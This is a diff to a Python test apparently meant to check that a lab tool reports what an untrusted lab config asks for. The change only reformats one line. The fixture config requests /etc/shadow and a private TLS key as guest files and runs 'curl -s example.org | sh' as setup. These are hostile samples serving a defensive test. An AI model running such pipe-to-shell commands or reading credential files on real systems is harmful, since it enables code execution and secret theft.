@@ -100,7 +100,8 @@ def test_what_a_guests_user_left_in_its_run_folder_stops_no_start(lab: Lab) -> N
 def test_a_lab_file_of_somebody_else_says_what_it_asks_for(lab: Lab) -> None:
     lab.write(
         '[lab]\nname = "siege"\n[network.pier]\nkind = "nat"\nbackend = "kernel"\nto-host = ["tcp 3128"]\n'
-        '[guest.gauge]\ndisk = [{ from = "/etc/shadow" }]\nmedium = ["/root/notes.iso"]\nadapter = [{ network = "pier" }]\n'
+        '[guest.gauge]\ndisk = [{ from = "/etc/shadow" }]\nmedium = ["/root/notes.iso"]\n'
+        'adapter = [{ network = "pier" }]\n'
         'login = { user = "ops", keys = ["/home/mara/.ssh/id.pub"] }\ndoor.ssh = { from = "lan", port = 2220 }\n'
         'setup.run = ["curl -s example.org | sh"]\nsetup.file = [{ path = "/x", from = "/etc/ssl/private/key" }]\n'
     )
